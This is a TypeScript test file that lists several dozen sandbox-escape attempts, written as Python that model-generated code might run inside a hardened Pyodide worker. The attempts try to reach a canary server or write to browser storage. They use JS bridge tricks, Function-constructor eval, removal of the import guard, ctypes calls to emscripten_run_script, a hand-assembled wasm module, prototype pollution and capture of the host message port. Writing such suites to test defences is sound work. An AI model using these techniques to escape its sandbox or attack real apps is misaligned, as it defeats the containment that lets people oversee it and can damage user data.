// Escape attempts from model-written Python. Each one tries a concrete effect (touch a canary,
// reach the canary server) and prints "ESCAPED <what>" only if the effect's call went through.
// `control: true` marks attempts that DO escape an unprotected Pyodide worker (plain `new Worker`,
// default `jsglobals`, no CSP, no hardening): the suite proves that on a control worker, so a
// blocked attempt in the hardened worker means the defence worked, not that the attempt was broken.

export interface Attempt {
  id: string;
  title: string;
  code: string;
  control: boolean;
}

/** Prepended to every attempt. `CANARY` is the canary server's origin. */
export function prelude(canaryUrl: string): string {
  return `
import sys, asyncio
CANARY = ${JSON.stringify(canaryUrl)}
def escaped(what=""):
    print("ESCAPED", what)
async def wait(p, t=3):
    return await asyncio.wait_for(asyncio.ensure_future(p) if not asyncio.iscoroutine(p) else p, t)
async def glob():
    """The worker global object, by any means known."""
    import js
    for name in ("self", "globalThis"):
        g = getattr(js, name, None)
        if g is not None:
            return g
    from pyodide.ffi import create_proxy
    fut = asyncio.get_event_loop().create_future()
    js.setTimeout(create_proxy(lambda this, *a: fut.set_result(this), capture_this=True), 0)
    g = await wait(fut)
    if g is None:
        raise RuntimeError("no global")
    return g
async def idb_write(factory):
    from pyodide.ffi import create_proxy
    req = factory.open("l0-canary")
    fut = asyncio.get_event_loop().create_future()
    req.onupgradeneeded = create_proxy(lambda e: req.result.createObjectStore("kv"))
    req.onsuccess = create_proxy(lambda e: fut.set_result(req.result))
    req.onerror = create_proxy(lambda e: fut.set_exception(RuntimeError("idb error")))
    db = await wait(fut)
    db.transaction("kv", "readwrite").objectStore("kv").put("pwned", "canary")
    db.close()
    escaped("idb")
`;
}

const a = (id: string, title: string, control: boolean, code: string): Attempt => ({ id, title, control, code: code.trim() });

export const ATTEMPTS: Attempt[] = [
  // --- network from the js module ---------------------------------------------------------------
  a('js-fetch', 'import js; js.fetch', true, `
import js
r = await wait(js.fetch(CANARY + "/js-fetch"))
escaped(r.status)`),
  a('from-js-import-fetch', 'from js import fetch', true, `
from js import fetch
await wait(fetch(CANARY + "/from-js-import"))
escaped()`),
  a('xhr', 'XMLHttpRequest', true, `
import js
x = js.XMLHttpRequest.new(); x.open("GET", CANARY + "/xhr", False); x.send()
escaped(x.status)`),
  a('websocket', 'WebSocket', true, `
import js
ws = js.WebSocket.new(CANARY.replace("http", "ws") + "/ws")
escaped(ws.url)`),
  a('eventsource', 'EventSource', true, `
import js
es = js.EventSource.new(CANARY + "/es")
escaped(es.url)`),
  a('importscripts', 'importScripts (module worker)', false, `
import js
js.importScripts(CANARY + "/is.js")
escaped()`),
  a('sendbeacon', 'navigator.sendBeacon', false, `
import js
js.navigator.sendBeacon(CANARY + "/beacon", "x")
escaped()`),
  a('nested-worker', 'new Worker(cross-origin url)', false, `
import js
w = js.Worker.new(CANARY + "/w.js", type="module")
escaped()`),
  a('nested-worker-blob', 'new Worker(blob: URL) that fetches', true, `
import js
b = js.Blob.new([f"fetch('{CANARY}/nested-blob-worker')"], type="text/javascript")
w = js.Worker.new(js.URL.createObjectURL(b))
await asyncio.sleep(1)
escaped()`),
  a('fontface', 'FontFace(url(...)).load()', true, `
import js
f = js.FontFace.new("x", f"url({CANARY}/font.woff2)")
f.load()
await asyncio.sleep(0.5)
escaped()`),
  a('pyodide-http-pyfetch', 'pyodide.http.pyfetch', true, `
from pyodide.http import pyfetch
await wait(pyfetch(CANARY + "/pyfetch"))
escaped()`),
  a('pyodide-http-open-url', 'pyodide.http.open_url (sync XHR)', true, `
from pyodide.http import open_url
open_url(CANARY + "/open-url")
escaped()`),
  a('urllib', 'urllib.request.urlopen', false, `
import urllib.request
urllib.request.urlopen(CANARY + "/urllib", timeout=2)
escaped()`),
  a('socket', 'socket.create_connection', false, `
import socket
host, port = CANARY.split("//")[1].split(":")
socket.create_connection((host, int(port)), timeout=2)
escaped()`),
  // --- storage -----------------------------------------------------------------------------------
  a('indexeddb', 'js.indexedDB write to the app database', true, `
import js
await idb_write(js.indexedDB)`),
  a('indexeddb-delete', 'indexedDB.deleteDatabase', true, `
import js
js.indexedDB.deleteDatabase("l0-canary")
await asyncio.sleep(0.3)
escaped()`),
  a('caches', 'Cache Storage (model weights live there)', true, `
import js
ok = await wait(js.caches.delete("l0-canary"))
escaped(ok)`),
  a('localstorage', 'localStorage', false, `
import js
js.localStorage.setItem("l0-canary", "pwned")
escaped()`),
  a('opfs', 'navigator.storage.getDirectory (origin private file system)', true, `
import js
d = await wait(js.navigator.storage.getDirectory())
fh = await wait(d.getFileHandle("pwned", create=True))
escaped()`),
  a('storage-persist', 'navigator.storage.estimate', true, `
import js
e = await wait(js.navigator.storage.estimate())
escaped(e.usage)`),
  a('idbfs', 'Emscripten IDBFS through pyodide_js.FS', true, `
import pyodide_js, os
FS = pyodide_js.FS
FS.mkdir("/idbfs-pwn")
FS.mount(FS.filesystems.IDBFS, {}, "/idbfs-pwn")
open("/idbfs-pwn/x", "w").write("pwned")
fut = asyncio.get_event_loop().create_future()
from pyodide.ffi import create_proxy
FS.syncfs(False, create_proxy(lambda err=None: fut.set_result(err)))
err = await wait(fut)
if not err: escaped()`),
  // --- DOM and app JS ----------------------------------------------------------------------------
  a('document', 'js.document (DOM)', false, `
import js
js.document.getElementById("l0-canary").textContent = "pwned"
escaped()`),
  a('window-parent', 'js.window / js.parent / js.top', false, `
import js
for n in ("window", "parent", "top", "opener"):
    w = getattr(js, n, None)
    if w is not None and getattr(w, "document", None) is not None:
        w.document.body.innerHTML = "pwned"; escaped(n)`),
  a('broadcastchannel', 'BroadcastChannel to the app', true, `
import js
for n in ("l0", "l0-canary", "app", "l0-sync"):
    js.BroadcastChannel.new(n).postMessage("pwned")
escaped()`),
  a('locks', 'navigator.locks (block the app)', true, `
import js
js.navigator.locks.request("l0", lambda *a: None)
escaped()`),
  // --- the JS bridge -----------------------------------------------------------------------------
  a('js-eval', 'js.eval', true, `
import js
js.eval(f"fetch('{CANARY}/js-eval')")
escaped()`),
  a('js-function', 'js.Function.new', true, `
import js
js.Function.new(f"fetch('{CANARY}/js-function')")()
escaped()`),
  a('run-js', 'pyodide.code.run_js', true, `
from pyodide.code import run_js
run_js(f"fetch('{CANARY}/run-js')")
escaped()`),
  a('constructor-constructor', 'any proxy .constructor.constructor (Function)', true, `
import js
f = js.Object.constructor
f.new(f"fetch('{CANARY}/ctor')")()
escaped()`),
  a('host-fn-constructor', 'a host-provided JS function .constructor', true, `
import sys
for mod in list(sys.modules.values()):
    for v in list(getattr(mod, "__dict__", {}).values()):
        c = getattr(v, "constructor", None)
        if type(v).__name__.startswith("Js") and c is not None and getattr(c, "name", "") == "Function":
            c.new(f"fetch('{CANARY}/host-ctor')")()
            escaped(type(v).__name__); break`),
  a('async-function-ctor', 'AsyncFunction constructor via prototypes', true, `
import js
P = js.Object.getPrototypeOf
afn = js.Promise.resolve(1).then  # any function
AsyncFunction = None
for m in ("__proto__",):
    pass
# async functions exist in Pyodide's own code: find one on the asyncio scheduler
import sys
cands = [getattr(m, k) for m in list(sys.modules.values()) for k in list(getattr(m, "__dict__", {})) if type(getattr(m, k, None)).__name__.startswith("Js")]
for c in cands:
    try:
        ctor = P(c).constructor
        if ctor.name in ("AsyncFunction", "GeneratorFunction", "AsyncGeneratorFunction", "Function"):
            ctor.new(f"fetch('{CANARY}/async-ctor')")
            escaped(ctor.name); break
    except Exception:
        pass`),
  a('reflect-construct', 'Reflect.construct(Function, ...)', true, `
import js
fn = js.Reflect.construct(js.Function, [f"fetch('{CANARY}/reflect')"])
fn()
escaped()`),
  a('string-timer', 'setTimeout with a string (implicit eval)', true, `
import js
js.setTimeout(f"fetch('{CANARY}/string-timer')", 0)
await asyncio.sleep(0.3)
escaped()`),
  a('global-via-timer-this', 'global object via setTimeout this (capture_this)', true, `
g = await glob()
await wait(g.fetch(CANARY + "/timer-this"))
escaped()`),
  a('descriptor-getter', 'WorkerGlobalScope.prototype indexedDB getter via getOwnPropertyDescriptor', true, `
import js
g = await glob()
O = js.Object
proto = g
found = None
while proto and found is None:
    d = O.getOwnPropertyDescriptor(proto, "indexedDB")
    if d is not None and d.get is not None:
        found = d.get.call(g)
    proto = O.getPrototypeOf(proto)
await idb_write(found)`),
  a('descriptor-fetch', 'fetch from the global prototype chain', true, `
import js
g = await glob()
O = js.Object
proto = g
while proto:
    d = O.getOwnPropertyDescriptor(proto, "fetch")
    if d is not None and d.value is not None:
        await wait(d.value.call(g, CANARY + "/descriptor")); escaped(); break
    proto = O.getPrototypeOf(proto)`),
  a('pyodide-js-api', 'pyodide_js._api.config.jsglobals', true, `
import pyodide_js
g = pyodide_js._api.config.jsglobals
await wait(g.fetch(CANARY + "/jsglobals"))
escaped()`),
  a('pyodide-js-loadpackage', 'pyodide_js.loadPackage(cross-origin wheel)', true, `
import pyodide_js
await wait(pyodide_js.loadPackage(CANARY + "/pkg-0.1-py3-none-any.whl"), 3)
escaped()`),
  a('pyodide-js-loadbinary', 'pyodide_js._api.loadBinaryFile (fetch inside Pyodide)', true, `
import pyodide_js
await wait(pyodide_js._api.loadBinaryFile(CANARY + "/load-binary"))
escaped()`),
  a('pyodide-js-loaddynlib', 'pyodide_js._api.loadDynlib (remote wasm library)', false, `
import pyodide_js
try:
    await wait(pyodide_js._api.loadDynlib(CANARY + "/lib.so", True))
except Exception as e:
    # the library is not valid wasm; the request is what counts
    if "canary" in str(e).lower() or "magic" in str(e).lower() or "compile" in str(e).lower(): escaped(e)
    raise
escaped()`),
  a('pyodide-js-module', 'pyodide_js._module (Emscripten Module)', true, `
import pyodide_js
M = pyodide_js._module
g = M.API.config.jsglobals
await wait(g.fetch(CANARY + "/module"))
escaped()`),
  a('importhook-jsproxies', 'original js module from the import hook registry', true, `
import sys
reg = sys.modules["_pyodide._importhook"].jsfinder.jsproxies
for name, mod in list(reg.items()):
    f = getattr(mod, "fetch", None) or getattr(getattr(getattr(mod, "_api", None), "config", None), "jsglobals", None)
    if f is not None:
        f = f if callable(f) and not hasattr(f, "fetch") else f.fetch
        await wait(f(CANARY + "/importhook")); escaped(name); break`),
  a('gc-jsproxy-walk', 'gc walk for any JsProxy that reaches fetch/indexedDB', true, `
import gc
hit = None
for o in gc.get_objects():
    t = type(o).__name__
    if not t.startswith("Js"):
        continue
    for name in ("fetch", "indexedDB", "jsglobals"):
        try:
            v = getattr(o, name, None)
        except Exception:
            v = None
        if v is not None:
            hit = (o, name, v); break
    if hit: break
if hit:
    o, name, v = hit
    if name == "fetch": await wait(o.fetch(CANARY + "/gc"))
    elif name == "jsglobals": await wait(v.fetch(CANARY + "/gc"))
    else: await idb_write(v)
    escaped(name)
else:
    # unprotected workers expose the global as the js module (not always gc-tracked)
    import js
    await wait(js.fetch(CANARY + "/gc-fallback")); escaped("js")`),
  a('reimport-after-guard-removed', 'remove the Python import guard, then import js', true, `
import sys
sys.meta_path[:] = [f for f in sys.meta_path if "Guard" not in type(f).__name__]
for k in [k for k in sys.modules if k in ("js", "pyodide_js")]:
    del sys.modules[k]
import importlib
js = importlib.import_module("js")
await wait(js.fetch(CANARY + "/reimport"))
escaped()`),
  a('ctypes-run-script', 'ctypes -> emscripten_run_script (eval)', true, `
import sys
sys.meta_path[:] = [f for f in sys.meta_path if "Guard" not in type(f).__name__]
import ctypes
lib = ctypes.CDLL(None)
if lib.emscripten_run_script_int(f"(fetch('{CANARY}/ctypes'), 7)".encode()) == 7:
    escaped()`),
  a('wasm-import-fetch', 'WebAssembly.instantiate of arbitrary bytes importing fetch', true, `
import js
from pyodide.ffi import to_js
# (module (import "e" "f" (func $f)) (func (export "run") call $f))
wasm = bytes([0,97,115,109,1,0,0,0,1,4,1,96,0,0,2,7,1,1,101,1,102,0,0,3,2,1,0,7,7,1,3,114,117,110,0,1,10,6,1,4,0,16,0,11])
g = None
try:
    g = await glob()
except Exception:
    pass
f = getattr(js, "fetch", None) or (g.fetch if g is not None else None)
f = f.bind(None, CANARY + "/wasm-import")
inst = await wait(js.WebAssembly.instantiate(to_js(wasm), to_js({"e": {"f": f}}, dict_converter=js.Object.fromEntries)))
inst.instance.exports.run()
await asyncio.sleep(0.3)
escaped()`),
  a('module-asyncload', 'Emscripten Module.asyncLoad (fetch inside the runtime)', true, `
import pyodide_js
await wait(pyodide_js._module.asyncLoad(CANARY + "/async-load"))
escaped()`),
  a('blob-url-worker-script', 'URL.createObjectURL for a script the worker can import', true, `
import js
url = js.URL.createObjectURL(js.Blob.new([f"fetch('{CANARY}/blob-url')"], type="text/javascript"))
w = js.Worker.new(url, type="module")
await asyncio.sleep(1)
escaped()`),
  a('host-bridge-pollution', 'prototype pollution through the host bridge (_l0_host)', false, `
import sys, json
h = sys.modules.get("_l0_host") or __import__("_l0_host")
payload = json.dumps({"__proto__": {"polluted": True}, "constructor": {"prototype": {"polluted": True}}})
for name in ("__proto__", "constructor", "toString", "hasOwnProperty"):
    try:
        await wait(h.call_tool_async(name, payload))
    except Exception:
        pass
h.stream("stdout", "__proto__")
from pyodide.ffi import to_js
try:
    h.stream("stdout", to_js({"__proto__": {"polluted": True}}))
except Exception:
    pass
await asyncio.sleep(0.2)`),
  a('tool-gateway-flood', 'flood the tool gateway with unknown tools and huge arguments', false, `
import sys
h = sys.modules.get("_l0_host") or __import__("_l0_host")
big = "x" * 5_000_000
for i in range(200):
    try:
        await wait(h.call_tool_async("fetch", '{"url": "' + CANARY + '/gateway"}'), 1)
    except Exception:
        pass
try:
    await wait(h.call_tool_async("search_corpus", '{"query": "' + big + '"}'), 2)
except Exception:
    pass`),
  a('prepare-stack-trace', 'V8 Error.prepareStackTrace: CallSite.getThis/getFunction to reach the global', false, `
import js
from pyodide.ffi import create_proxy
found = []
def prep(err, sites):
    for site in sites:
        for getter in ("getThis", "getFunction"):
            try:
                v = getattr(site, getter)()
                if v is not None and getattr(v, "fetch", None) is not None:
                    found.append(v)
            except Exception:
                pass
    return "x"
Err = getattr(js, "Error", None)
if Err is None:
    # No Error in the js module: take it from a thrown JS error (TypeError -> Error).
    try:
        js.Object.defineProperty(None, "x", None)
    except Exception as e:
        Err = js.Object.getPrototypeOf(e.js_error.constructor)
Err.prepareStackTrace = create_proxy(prep)
try:
    js.Object.constructor.new("x")
except Exception:
    pass
try:
    js.setTimeout("x")
except Exception:
    pass
Err.prepareStackTrace = None
if found:
    await wait(found[0].fetch(CANARY + "/stack"))
    escaped()`),
  a('notification', 'Notification with a remote icon', false, `
import js
js.Notification.new("x", icon=CANARY + "/icon.png")
escaped()`),
  a('shared-worker', 'SharedWorker', false, `
import js
js.SharedWorker.new(CANARY + "/sw.js")
escaped()`),
  a('webtransport', 'WebTransport', false, `
import js
js.WebTransport.new(CANARY.replace("http", "https") + "/wt")
escaped()`),
  a('postmessage-forged-dom', 'forged message to the page asking for DOM changes', false, `
g = await glob()
g.postMessage({"type": "dom", "id": "l0-canary", "html": "pwned"})
await asyncio.sleep(0.2)
escaped()`),
  // --- issue 16: the chain's steps, each alone ---------------------------------------------------
  a('chain-accessor-free-variable', 'accessor on Object.prototype for a missing global, run by an Emscripten free-variable read (ctypes)', true, `
import sys, js
from pyodide.ffi import create_proxy, to_js
reached = []
def _getter(this, *args):
    if this is not None:
        reached.append(this)
    return js.Object.new()
getter = create_proxy(_getter, capture_this=True)
planted = []
for name in ("navigator", "document"):
    try:
        js.Object.defineProperty(js.Object.prototype, name, to_js({"get": getter, "configurable": True}, dict_converter=js.Object.fromEntries))
        planted.append(name)
    except Exception as e:
        print("plant refused:", name, e)
sys.meta_path[:] = [f for f in sys.meta_path if "Guard" not in type(f).__name__]
try:
    import ctypes
    lib = ctypes.PyDLL(None)
    lib.emscripten_vibrate(1)          # reads navigator
    lib.emscripten_exit_pointerlock()  # reads document
except BaseException as e:
    print("ctypes:", type(e).__name__, e)
for name in planted:
    delattr(js.Object.prototype, name)
for g in reached:
    f = getattr(g, "fetch", None)
    if f is not None:
        f(CANARY + "/accessor-global")
        escaped("global reached by " + ",".join(planted)); break`),
  a('prototype-planting', 'define properties on every shared prototype Python reaches (Object, Function, Array, Promise, iterators, Error, Date, WeakRef...)', true, `
import js
from pyodide.ffi import to_js
O = js.Object
P = O.getPrototypeOf
protos = {"Object": O.prototype, "Function": P(O), "Array": js.Array.prototype, "Date": js.Date.prototype, "WeakRef": js.WeakRef.prototype}
try:
    protos["Promise"] = P(js.Array.fromAsync(js.Array.new()))
except Exception:
    pass
try:
    it = js.Array.new().values()
    protos["ArrayIterator"] = P(it); protos["Iterator"] = P(P(it))
except Exception:
    pass
try:
    O.defineProperty(None, "x", None)
except Exception as e:
    err = getattr(e, "js_error", None)
    if err is not None:
        protos["TypeError"] = P(err); protos["Error"] = P(P(err))
for name in ("FinalizationRegistry", "MessagePort", "EventTarget", "WeakMap", "Map"):
    c = getattr(js, name, None)
    if c is not None:
        protos[name] = c.prototype
planted = []
has = O.prototype.hasOwnProperty
for name, proto in protos.items():
    try:  # a new property
        O.defineProperty(proto, "l0Pwned", to_js({"value": 1, "configurable": True}, dict_converter=O.fromEntries))
        if has.call(proto, "l0Pwned"):
            planted.append(name); delattr(proto, "l0Pwned")
    except Exception:
        pass
    try:  # an existing method replaced (or shadowed on the prototype)
        own = has.call(proto, "toString")
        orig = proto.toString
        setattr(proto, "toString", O.prototype.valueOf)
        if proto.toString != orig:
            planted.append(name + ".toString")
            setattr(proto, "toString", orig) if own else delattr(proto, "toString")
    except Exception:
        pass
if planted:
    escaped(",".join(planted))`),
  a('ctypes-builtin-routes', 'import _ctypes / _testcapi after removing the guard: import, importlib, _imp.create_builtin, BuiltinImporter, _bootstrap, gc', true, `
import sys, gc, types, importlib, importlib.machinery, _imp
sys.meta_path[:] = [f for f in sys.meta_path if "Guard" not in type(f).__name__]
Spec = importlib.machinery.ModuleSpec
routes = [
    ("import", lambda: __import__("_ctypes")),
    ("importlib", lambda: importlib.import_module("_ctypes")),
    ("create_builtin", lambda: _imp.create_builtin(Spec("_ctypes", None))),
    ("BuiltinImporter", lambda: importlib.machinery.BuiltinImporter.create_module(Spec("_ctypes", importlib.machinery.BuiltinImporter))),
    ("_bootstrap", lambda: importlib._bootstrap._builtin_from_name("_ctypes")),
    ("gc", lambda: next((o for o in gc.get_objects() if isinstance(o, types.ModuleType) and o.__name__ == "_ctypes"), None)),
    ("testcapi", lambda: __import__("_testcapi")),
    ("testinternalcapi", lambda: __import__("_testinternalcapi")),
]
got = []
for name, route in routes:
    for k in ("_ctypes", "ctypes", "_testcapi", "_testinternalcapi"):
        sys.modules.pop(k, None)
    try:
        m = route()
    except BaseException as e:
        continue
    if isinstance(m, types.ModuleType) and (hasattr(m, "CFuncPtr") or m.__name__.startswith("_test")):
        got.append(name)
if got:
    escaped(",".join(got))`),
  a('side-module-run-script', 'a hand-written Emscripten side module imported from the file system calls emscripten_run_script (no ctypes)', true, `
import sys, os
def leb(n):
    out = bytearray()
    while True:
        b = n & 0x7f; n >>= 7
        if n: out.append(b | 0x80)
        else:
            out.append(b); return bytes(out)
def vec(items): return leb(len(items)) + b"".join(items)
def name(s): b = s.encode(); return leb(len(b)) + b
def section(i, content): return bytes([i]) + leb(len(content)) + content
js_code = f"fetch('{CANARY}/side-module')".encode() + b"\\0"
mem_info = leb(len(js_code)) + leb(0) + leb(0) + leb(0)
body = b"\\x00\\x23\\x00\\x10\\x00\\x41\\x00\\x0b"  # no locals; run_script(__memory_base); return 0
wasm = b"\\0asm\\x01\\0\\0\\0" + b"".join([
    section(0, name("dylink.0") + b"\\x01" + leb(len(mem_info)) + mem_info),
    section(1, vec([b"\\x60\\x01\\x7f\\x00", b"\\x60\\x00\\x01\\x7f"])),
    section(2, vec([name("env") + name("memory") + b"\\x02\\x00\\x00",
                    name("env") + name("__memory_base") + b"\\x03\\x7f\\x00",
                    name("env") + name("emscripten_run_script") + b"\\x00\\x00"])),
    section(3, vec([b"\\x01"])),
    section(7, vec([name("PyInit_l0side") + b"\\x00\\x01"])),
    section(10, vec([leb(len(body)) + body])),
    section(11, vec([b"\\x00\\x23\\x00\\x0b" + leb(len(js_code)) + js_code])),
])
os.makedirs("/tmp/l0side", exist_ok=True)
with open("/tmp/l0side/l0side.so", "wb") as f:
    f.write(wasm)
sys.path.insert(0, "/tmp/l0side")
try:
    import l0side
except SystemError:
    escaped("side module ran")  # PyInit returned NULL after its call: the module was instantiated
except ImportError as e:
    print("refused:", e)
finally:
    sys.path.remove("/tmp/l0side")`),
  a('finalization-registry-port', 'FinalizationRegistry.prototype.register = Array.prototype.push, setter on Object.prototype[1], one tool call: capture the host MessagePort comlink registers', false, `
import sys, js
from pyodide.ffi import to_js
O = js.Object
def jsobj(d): return to_js(d, dict_converter=O.fromEntries)
FR = getattr(js, "FinalizationRegistry", None)
if FR is None:
    try:
        FR = (await glob()).FinalizationRegistry
    except Exception as e:
        print("no global:", e)
if FR is not None:
    sink = jsobj({str(i): 0 for i in range(64)}); sink.length = 0
    original = FR.prototype.register
    refused = None
    try:
        FR.prototype.register = js.Array.prototype.push
        O.defineProperty(O.prototype, "1", jsobj({"set": js.Array.prototype.push.bind(sink), "configurable": True}))
        h = sys.modules.get("_l0_host") or __import__("_l0_host")
        h.call_tool_async("l0_probe", "{}")
    except Exception as e:
        refused = f"{type(e).__name__}: {e}"  # printed once the setter is gone (it swallows writes)
    finally:
        try:
            delattr(O.prototype, "1")
        except Exception:
            pass
        try:
            FR.prototype.register = original
        except Exception:
            pass
    if refused:
        print("refused:", refused)
    ports = [getattr(sink, str(i)) for i in range(int(sink.length)) if O.prototype.toString.call(getattr(sink, str(i))) == "[object MessagePort]"]
    if ports:
        ports[0].postMessage(jsobj({"id": "l0-probe", "type": "SET", "path": ["__proto__", "l0PortPwned"], "value": {"type": "RAW", "value": 1}}))
        escaped("host port captured")`),
  a('global-via-callback-this', 'the worker global as `this` of any callback Python can hand to JS (promises, array methods, getters, call/apply with null)', true, `
import js
from pyodide.ffi import create_proxy, to_js
O = js.Object
seen = []
def cb(this, *args):
    seen.append(this)
    return 0
f = create_proxy(cb, capture_this=True)
tries = [
    lambda: js.Array.new(1).fill(0).forEach(f),
    lambda: js.Array.new(1).fill(0).map(f),
    lambda: O.getPrototypeOf(O).call.call(f, None),                    # Function.prototype.call
    lambda: O.getPrototypeOf(O).apply.call(f, None, js.Array.new()),
    lambda: O.defineProperty(O.new(), "x", to_js({"get": f}, dict_converter=O.fromEntries)).x,
    lambda: js.setTimeout(f, 0),                                         # the HTML spec passes the global
]
for t in tries:
    try:
        t()
    except Exception:
        pass
p = None
try:
    p = js.Array.fromAsync(js.Array.new())
    p.then(f)
except Exception:
    pass
await asyncio.sleep(0.1)
for g in seen:
    if g is not None and getattr(g, "fetch", None) is not None:
        await wait(g.fetch(CANARY + "/callback-this"))
        escaped("global as this"); break`),
];
